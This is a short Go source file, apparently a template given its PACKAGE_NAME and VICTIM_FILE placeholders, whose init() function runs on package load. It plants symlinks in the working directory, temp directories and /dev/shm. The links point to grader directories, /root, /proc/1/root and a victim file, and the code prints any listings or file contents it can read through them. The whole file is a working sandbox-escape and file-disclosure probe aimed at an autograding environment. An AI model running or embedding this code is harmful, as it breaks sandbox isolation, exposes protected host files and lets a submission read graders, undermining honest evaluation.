package PACKAGE_NAME

import (
	"fmt"
	"os"
	"path/filepath"
)

func init() {
	home, _ := os.Getwd()
	for n, target := range []string{"/opt/gopherlab/graders", "/run/grader", "VICTIM_FILE", "/proc/1/root", "/root"} {
		for _, dir := range []string{home, os.TempDir(), "/dev/shm", "/var/tmp"} {
			link := filepath.Join(dir, fmt.Sprintf("link-%d", n))
			_ = os.Symlink(target, link)
			if entries, err := os.ReadDir(link); err == nil {
				fmt.Println("LINK reads", target, entries)
			} else if content, err := os.ReadFile(link); err == nil {
				fmt.Println("LINK reads", target, string(content))
			} else if dir == home {
				fmt.Printf("LINK to %s: %v\n", target, err)
			}
		}
	}
}
